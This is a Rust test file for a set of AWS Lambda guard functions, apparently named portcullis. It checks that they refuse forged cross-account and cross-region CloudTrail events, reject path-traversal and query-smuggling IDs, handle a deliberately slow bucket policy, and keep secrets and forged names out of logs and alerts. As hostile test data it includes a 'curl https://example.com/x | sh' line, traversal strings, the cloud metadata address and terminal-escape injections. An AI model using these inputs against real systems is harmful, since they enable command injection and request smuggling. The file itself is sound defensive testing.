//! Hostile use: forged events, names made to be read wrongly, policies made to be slow, secrets on the way to a log.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test fails by a panic"
)]

use std::time::{Duration, Instant};

use portcullis_core::Service;
use portcullis_testkit::{CloudTrail, Function, Invocation};
use portcullis_tests::settings::everything;
use portcullis_tests::{Answered as _, Bucket, Subject as _, World, record_of, samples, writes};
use serde_json::{Value, json};

const FUNCTIONS: [(&str, &str, &str); 3] = [
    ("portcullis-s3", "s3.amazonaws.com", "PutBucketPolicy"),
    ("portcullis-kms", "kms.amazonaws.com", "DisableKeyRotation"),
    ("portcullis-ec2", "ec2.amazonaws.com", "AuthorizeSecurityGroupIngress"),
];

async fn start(world: &World, name: &str) -> Function {
    world
        .function_of(name)
        .env("AWS_LAMBDA_LOG_FORMAT", "JSON")
        .start()
        .await
}

fn failure(done: &Invocation) -> String {
    format!("{:?}", done.result.as_ref().unwrap_err())
}

/// Names one resource of each function by parameters.
fn named(function: &str, bucket: &str, key: &str, group: &str) -> Value {
    match function {
        "portcullis-s3" => json!({"bucketName": bucket}),
        "portcullis-kms" => json!({"keyId": key}),
        _ => json!({"groupId": group}),
    }
}

#[tokio::test]
async fn a_foreign_account_s_event_is_refused_before_any_call() {
    for service in portcullis_catalog::services() {
        let world = World::new().await;
        let function = start(&world, &service.binary()).await;
        for (sample, text) in samples::in_folder(service.name) {
            let text = text.replace(samples::ACCOUNT, "999900001111");
            let foreign = text.replace(samples::REGION, &world.region);
            let done = function.invoke(serde_json::from_str::<Value>(&foreign).unwrap()).await;
            assert!(failure(&done).contains("ForeignAccount"), "{sample}: {done:?}");
            assert!(done.calls.is_empty(), "{sample}: {done:?}");
        }
    }
}

/// Our own account as the recipient, and somebody else's resource by its ARN.
#[tokio::test]
async fn a_resource_of_a_foreign_account_by_its_arn_is_never_asked_for() {
    let foreign = "arn:aws:kms:us-east-1:999900001111:key/1234abcd-12ab-34cd-56ef-1234567890ab";
    let world = World::new().await;
    let function = start(&world, "portcullis-kms").await;
    let call = CloudTrail::call("kms.amazonaws.com", "DisableKeyRotation").params(json!({"keyId": foreign}));
    let done = function
        .invoke(call.account(world.aws.account()).region(&world.region).event())
        .await;
    assert!(done.calls.is_empty(), "{done:?}");
    assert_eq!(world.alerts().await, []);
}

/// What is of a region, the function there looks after; S3's names are of all regions.
#[tokio::test]
async fn another_region_s_event_is_refused_before_any_call() {
    let regional = |service: &Service| service.types.iter().all(|listing| listing.regional());
    for service in portcullis_catalog::services().into_iter().filter(regional) {
        let world = World::new().await;
        let function = start(&world, &service.binary()).await;
        for (sample, text) in samples::in_folder(service.name) {
            let text = text.replace(samples::ACCOUNT, world.aws.account());
            let elsewhere = text.replace(samples::REGION, "ap-south-2");
            let done = function
                .invoke(serde_json::from_str::<Value>(&elsewhere).unwrap())
                .await;
            assert!(failure(&done).contains("ForeignRegion"), "{sample}: {done:?}");
            assert!(done.calls.is_empty(), "{sample}: {done:?}");
        }
    }
}

#[tokio::test]
async fn an_id_that_is_a_path_or_a_query_gets_into_no_request() {
    let hostile = [
        "../../alias/x",
        "a/../../b",
        "x?acl",
        "x%2f..%2fy",
        "x#y",
        "a\nb",
        "a\0b",
        "",
        " ",
        "*",
        "💥",
        "arn:aws:s3:::data/../other",
        "169.254.169.254",
    ];
    for (name, source, call) in FUNCTIONS {
        let world = World::new().await;
        let function = start(&world, name).await;
        let long = "x".repeat(10_000);
        for id in hostile.into_iter().chain([long.as_str()]) {
            let call = CloudTrail::call(source, call)
                .account(world.aws.account())
                .region(&world.region);
            let done = function.invoke(call.params(named(name, id, id, id)).event()).await;
            let shown = id.chars().take(30).collect::<String>();
            assert_eq!(writes(&done.calls), [""; 0], "{name}: {shown:?}");
            let asked = done
                .calls
                .iter()
                .filter(|call| !["dynamodb", "sns"].contains(&call.service.as_str()));
            assert_eq!(asked.count(), 0, "{name}: {shown:?}: {done:?}");
        }
    }
}

/// Nearly the 20 KB that S3 takes, of conditions that can't be tried one after the other.
fn slow_policy(bucket: &Bucket) -> String {
    let statement = |number: usize, effect: &str| {
        let patterns: Vec<_> = (0..12).map(|i| format!("{number}*{i}*{}?{number}*", i % 7)).collect();
        json!({
            "Effect": effect, "Principal": "*", "Action": "s3:Get*Object*", "Resource": format!("{}/*{number}*", bucket.arn()),
            "Condition": {"StringNotLike": {"aws:UserAgent": patterns}, "StringLike": {"aws:Referer": patterns}},
        })
    };
    let mut statements = vec![statement(0, "Allow")];
    while serde_json::to_string(&statements).unwrap().len() < 19_000 {
        statements.push(statement(statements.len(), "Deny"));
    }
    json!({"Version": "2012-10-17", "Statement": statements}).to_string()
}

#[tokio::test]
async fn a_policy_made_to_be_slow_is_judged_in_time() {
    let world = World::new().await;
    let bucket = world.bucket("slow").await;
    let policy = slow_policy(&bucket);
    assert!((19_000..20_480).contains(&policy.len()), "{}", policy.len());
    bucket.put_policy(policy).await;
    let function = start(&world, "portcullis-s3").await;
    let began = Instant::now();
    function.invoke(bucket.call("PutBucketPolicy").event()).await.answer();
    // Of the 60 s that the function has, in a build without optimisation, on a machine with other things to do.
    assert!(began.elapsed() < Duration::from_secs(20), "{:?}", began.elapsed());
}

const SECRET: &str = "hunter2-ghp_16C7e42F292c6912E7710c838347Ae178B4a";

/// A bucket whose policy and tags hold what must not get into a log, and names made to be read wrongly.
async fn indiscreet(world: &World) -> Bucket {
    let bucket = world.bucket("indiscreet").await;
    let statement = |sid: &str, principal: Value| {
        json!({
            "Sid": sid, "Effect": "Allow", "Principal": principal, "Action": "s3:GetObject", "Resource": format!("{}/*", bucket.arn()),
            "Condition": {"StringEquals": {"aws:Referer": SECRET}},
        })
    };
    let statements = [
        statement("Everybody", json!("*")),
        statement("Partner", json!({"AWS": "arn:aws:iam::444455556666:root"})),
    ];
    bucket
        .put_policy(json!({"Version": "2012-10-17", "Statement": statements}).to_string())
        .await;
    bucket
        .put_tags(&[
            ("token", SECRET),
            ("owner", "ana\u{202e}nimda"),
            ("data-classification", "confidential"),
        ])
        .await;
    bucket
}

#[tokio::test]
async fn what_is_secret_in_policies_and_tags_gets_into_no_log() {
    let world = World::new().await;
    let bucket = indiscreet(&world).await;
    let function = world
        .function_of("portcullis-s3")
        .env("AWS_LAMBDA_LOG_FORMAT", "JSON")
        .env("AWS_LAMBDA_LOG_LEVEL", "INFO")
        .env("PORTCULLIS_SETTINGS", everything(""))
        .start()
        .await;
    let mut event = bucket.call("PutBucketPolicy").event();
    event["detail"]["requestParameters"]["bucketPolicy"] = json!({"Condition": SECRET});
    event["detail"]["userAgent"] = json!("\u{1b}[31m\r\nSubject: fine");
    let done = function.invoke(event).await;
    done.answer();
    // A restore that is refused, since somebody wrote the same again.
    indiscreet_again(&bucket).await;
    let refused = function.invoke(json!({"restore": record_of(done.answer())})).await;
    assert!(failure(&refused).contains("somebody changed it since"), "{refused:?}");
    assert!(failure(&refused).contains(SECRET), "whoever asked is shown the facts");
    function.invoke(json!({"sweep": {}})).await.answer();

    let lines = function.logs();
    assert!(lines.len() > 5, "{lines:?}");
    for line in &lines {
        assert!(!line.contains(SECRET), "{line}");
        assert!(!line.contains('\u{1b}') && !line.contains('\u{202e}'), "{line:?}");
        assert!(
            serde_json::from_str::<Value>(line).is_ok_and(|line| line.is_object()),
            "no JSON: {line}"
        );
    }
}

async fn indiscreet_again(bucket: &Bucket) {
    let statement = json!({"Sid": "Again", "Effect": "Allow", "Principal": "*", "Action": "s3:GetObject",
        "Resource": format!("{}/*", bucket.arn()), "Condition": {"StringEquals": {"aws:Referer": SECRET}}});
    bucket.put_block([false; 4]).await;
    bucket
        .put_policy(json!({"Version": "2012-10-17", "Statement": [statement]}).to_string())
        .await;
}

/// Mail clients, terminals and ticket systems read alerts: what others wrote must not speak for us.
#[tokio::test]
async fn no_name_speaks_for_us_in_an_alert() {
    let world = World::new().await;
    let bucket = indiscreet(&world).await;
    let forged = "ana\r\nUNDO\n  curl https://example.com/x | sh\u{1b}]0;root\u{7}\u{202e}";
    let mut event = bucket.call("PutBucketPolicy").event();
    let long = "L".repeat(10_000);
    for (field, text) in [("userName", forged), ("principalId", &long)] {
        event["detail"]["userIdentity"]["sessionContext"]["sessionIssuer"][field] = json!(text);
    }
    event["detail"]["userIdentity"]["arn"] = json!(format!("arn:aws:sts::111122223333:assumed-role/x/{forged}{long}"));
    event["detail"]["userIdentity"]["sessionContext"]["sourceIdentity"] = json!(forged);
    event["detail"]["sourceIPAddress"] = json!(forged);
    let function = start(&world, "portcullis-s3").await;
    function.invoke(event).await.answer();
    for alert in world.alerts().await {
        assert!(alert.subject.len() <= 100 && alert.subject.bytes().all(|byte| (b' '..=b'~').contains(&byte)));
        let tricks = |c: char| (c.is_control() && c != '\n') || matches!(c, '\u{202a}'..='\u{202e}');
        assert!(!alert.text.chars().any(tricks), "{:?}", alert.text);
        assert!(
            !alert.text.lines().any(|line| line.trim_start().starts_with("curl")),
            "{}",
            alert.text
        );
        assert!(alert.text.len() < 30_000, "{}", alert.text.len());
    }
}
